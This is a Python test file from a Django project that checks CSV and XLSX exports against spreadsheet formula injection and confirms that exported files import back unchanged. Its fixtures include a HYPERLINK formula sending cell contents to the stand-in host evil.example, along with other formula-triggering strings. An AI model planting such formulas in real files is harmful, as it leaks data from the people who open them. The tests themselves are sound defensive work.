"""Formula injection: text typed into a field that a spreadsheet would run ("=HYPERLINK(…)",
"@SUM(…)", "+…", "-…") is exported as text — CSV and XLSX, dashboards and the files that are
imported back — and an exported file imported again gives back exactly what was typed."""

import io

import pytest
from openpyxl import load_workbook

from cchc.core.exports import neutralise, restore
from cchc.core.testing import BaseTestCase
from cchc.frameworks.importers import (
    export_framework_csv,
    export_framework_xlsx,
    read_framework_file,
)
from cchc.frameworks.models import Criterion
from cchc.frameworks.selectors import bands_of
from cchc.frameworks.tests.factories import make_framework
from cchc.orgunits.importers import export_units_csv
from cchc.orgunits.models import OrgUnit
from cchc.orgunits.services import org_unit_create

pytestmark = pytest.mark.security

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
FRAMEWORK = f"""code,parent_code,title,max_points,rule
1,,Chỉ đạo điều hành,3,sum
1.1,1,"{FORMULA.replace('"', '""')}",2,yes_no
1.2,1,@SUM(1+1),1,yes_no
"""


def test_neutralise_and_restore_are_inverse():
    for text in (FORMULA, "@x", "+1", "-5", "\t=1", "bình thường", "'kept as typed", ""):
        assert restore(neutralise(text)) == text
    assert neutralise(FORMULA).startswith("'=")


class RoundTripTests(BaseTestCase):
    def test_a_framework_exports_formulas_as_text_and_imports_them_back(self):
        framework = make_framework(self.cast.city, text=FRAMEWORK, name="Công thức")
        criteria = list(
            Criterion.objects.filter(framework=framework)
            .select_related("parent", "agency")
            .order_by("order")
        )
        text = export_framework_csv(criteria)
        assert "'=HYPERLINK" in text and "'@SUM" in text
        workbook = load_workbook(
            io.BytesIO(export_framework_xlsx(framework, criteria, bands_of(framework)))
        )
        cells = [cell for row in workbook.worksheets[-1].iter_rows() for cell in row]
        assert not any(cell.data_type == "f" for cell in cells)  # no formula anywhere
        content, _agencies = read_framework_file(data=text.encode(), file_name="lai.csv")
        titles = {row.code: row.title for row in content.criteria}
        assert titles["1.1"] == FORMULA and titles["1.2"] == "@SUM(1+1)"

    def test_unit_names_round_trip_through_the_units_file(self):
        org_unit_create(
            actor=None, code="F1", name="+84 Phường", kind="ward", parent=self.cast.city
        )
        units = list(OrgUnit.objects.select_related("parent").order_by("path"))
        text = export_units_csv(units)
        assert ",'+84 Phường," in text
        from cchc.core.imports import read_csv_rows

        rows = {
            row["code"]: row["name"] for _n, row in read_csv_rows(text, required=["code", "name"])
        }
        assert rows["F1"] == "+84 Phường"


# Text a spreadsheet would run, each way it can start (=, @, +, -, tab, carriage return).
ATTACKS = [FORMULA, "@SUM(1+1)", "+84 912 345 678", "-2+3", "\t=1+1", "\r=1+1"]


def assert_text_as_typed(cells: list, attacks: list[str]) -> None:
    """No formula cell; each attack is there once as text, a leading apostrophe before it."""
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells if isinstance(cell.value, str)]
    for attack in attacks:
        assert "'" + attack in values, attack
        assert attack not in values, attack


class ResultsExportTests(BaseTestCase):
    def test_the_results_workbook_writes_unit_framework_and_band_names_as_text(self):
        from cchc.assessments.exports import results_xlsx
        from cchc.assessments.services.results import ResultRow
        from cchc.assessments.tests.factories import make_round

        round_ = make_round(self.cast, name="=1+2")
        rows = [
            {
                "org_unit_id": n + 1,
                "rank": n + 1,
                "unit_name": attack,
                "unit_code": f"U{n}",
                "total": "7.5",
                "maximum": "12",
                "percent": "62.5",
                "band": attack,
                "self_points": "8",
                "gap": "0.5",
                "previous_rank": None,
                "rank_change": None,
            }
            for n, attack in enumerate(ATTACKS)
        ]
        table = [ResultRow.from_json(row) for row in rows]  # as a published table reads
        sheet = load_workbook(io.BytesIO(results_xlsx(round_, table))).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert_text_as_typed(cells, ATTACKS)
        assert sheet["D5"].value == 7.5  # figures stay numbers
        assert "'=1+2" in str(sheet["B1"].value)  # the framework's name

    def test_the_results_download_has_no_formula_for_a_unit_named_like_one(self):
        from django.urls import reverse

        from cchc.assessments.tests.factories import make_round

        unit = org_unit_create(
            actor=None, code="F2", name=FORMULA, kind="ward", parent=self.cast.city
        )
        round_ = make_round(self.cast, name="@SUM(1+1)", units=[self.cast.ward_a, unit])
        from cchc.assessments.services import assessment_submit
        from cchc.assessments.tests.factories import assessment_of
        from cchc.assessments.tests.test_workflow import fill

        assessment = assessment_of(round_, unit)
        fill(assessment, self.ward_officer)
        assessment_submit(actor=self.ward_chair, assessment=assessment)  # now in the ranking
        self.login("home_affairs")
        response = self.client.get(reverse("assessments:results_export", args=[round_.pk]))
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert_text_as_typed(cells, [FORMULA])
        assert "'@SUM(1+1)" in str(sheet["B1"].value)
        assert sheet["A4"].value == "Hạng"


class FrameworkWorkbookTests(BaseTestCase):
    def test_the_framework_name_description_and_bands_are_text_and_import_back(self):
        framework = make_framework(self.cast.city, text=FRAMEWORK, name="@SUM(A1:A9)")
        band = framework.bands.order_by("min_percent").first()
        band.name = "-1+1"
        band.save()
        framework.description = "+84 912"
        framework.save()
        criteria = list(
            Criterion.objects.filter(framework=framework)
            .select_related("parent", "agency")
            .order_by("order")
        )
        data = export_framework_xlsx(framework, criteria, bands_of(framework))
        workbook = load_workbook(io.BytesIO(data))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert_text_as_typed(cells, ["@SUM(A1:A9)", "+84 912", "-1+1"])
        content, _agencies = read_framework_file(data=data, file_name="lai.xlsx")
        assert content.info["name"] == "@SUM(A1:A9)"
        assert "-1+1" in [name for name, _percent in content.bands]


class RejectedRowsTests(BaseTestCase):
    def test_the_rejected_rows_file_writes_formulas_as_text_and_imports_back(self):
        import csv

        from cchc.indicators.importers import import_dossiers
        from cchc.indicators.models import Dossier, DossierImport

        header = ["Mã hồ sơ", "Tên thủ tục", "Đơn vị", "Ngày tiếp nhận"]
        codes = [f"{attack}{n}" for n, attack in enumerate(ATTACKS)]  # "\t=1+1", "\r=1+1" differ
        rows = [
            [code, attack, "X18070", "hôm nay"] for code, attack in zip(codes, ATTACKS, strict=True)
        ]
        text = io.StringIO()
        csv.writer(text).writerows([header, *rows])
        result = import_dossiers(
            actor=None,
            stream=io.BytesIO(text.getvalue().encode()),
            file_name="ho-so.csv",
            mode=DossierImport.Mode.VALID_ONLY,
        )
        assert result.rejected == len(ATTACKS)
        raw = result.record.rejected_file.read().decode("utf-8-sig")
        lines = list(csv.reader(io.StringIO(raw, newline="")))
        for line, code, attack in zip(lines[1:], codes, ATTACKS, strict=True):
            # Cells are trimmed as they are read ("\t=1+1" is "=1+1"), then neutralised.
            assert line[:2] == ["'" + code.strip(), "'" + attack.strip()]
        # Corrected and imported again, the file gives back exactly what was typed.
        fixed_text = io.StringIO()
        csv.writer(fixed_text).writerows(line[:-1] for line in lines)  # the reason column off
        fixed = fixed_text.getvalue().replace("hôm nay", "01/02/2025")
        import_dossiers(actor=None, stream=io.BytesIO(fixed.encode()), file_name="lai.csv")
        stored = dict(Dossier.objects.values_list("code", "procedure_name"))
        assert stored == {
            code.strip(): attack.strip() for code, attack in zip(codes, ATTACKS, strict=True)
        }


def test_every_spreadsheet_writer_goes_through_core_exports():
    """A module that writes a workbook or a CSV file must take its cells through
    cchc.core.exports (safe_cell, safe_row, neutralise or a Table)."""
    from pathlib import Path

    import cchc

    root = Path(cchc.__file__).parent
    writers = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "exports.py" and path.parent.name == "core":
            continue
        source = path.read_text(encoding="utf-8")
        if any(word in source for word in ("Workbook(", "csv.writer(", "csv.DictWriter(")):
            writers.append(path.relative_to(root).as_posix())
            assert "cchc.core.exports import" in source, path
    assert len(writers) >= 4  # framework, checklists, units, rejected rows (tables: core)
